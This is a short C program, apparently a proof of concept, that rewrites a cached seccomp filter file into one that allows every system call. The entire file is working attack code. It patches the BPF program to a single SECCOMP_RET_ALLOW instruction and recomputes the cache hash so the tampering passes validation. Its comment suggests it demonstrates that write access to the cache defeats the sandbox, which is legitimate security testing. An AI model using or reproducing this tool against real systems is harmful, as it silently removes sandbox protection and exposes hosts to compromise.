/* SPDX-License-Identifier: Apache-2.0 */
/*
 * poison FILE: turn a cached seccomp filter into one that allows everything. Anybody who can write
 * the cache can do that; the layout is that of src/seccomp/seccomp-cache.c.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

struct header {
	char magic[8];
	uint32_t key_length, count;
	uint64_t program_hash;
};

/* Eight bytes: one instruction. */
static uint64_t hash(uint64_t word)
{
	uint64_t h = 0x9e3779b97f4a7c15u ^ 8;

	h = (h ^ word) * 0xff51afd7ed558ccdu;
	return h ^ h >> 32;
}

int main(int argc, char **argv)
{
	const uint64_t allow = (uint64_t)0x7fff0000 << 32 | 6; /* return SECCOMP_RET_ALLOW */
	struct header h;
	off_t code;
	int fd;

	fd = argc == 2 ? open(argv[1], O_RDWR) : -1;
	if (fd < 0 || pread(fd, &h, sizeof(h), 0) != sizeof(h) ||
	    memcmp(h.magic, "huskbpf", 7) != 0) {
		fputs("poison: not a cached filter\n", stderr);
		return 1;
	}
	code = (off_t)(sizeof(h) + ((h.key_length + 7u) & ~7u));
	h.count = 1;
	h.program_hash = hash(allow);
	return pwrite(fd, &h, sizeof(h), 0) != sizeof(h) || pwrite(fd, &allow, 8, code) != 8 ||
	       ftruncate(fd, code + 8) < 0;
}
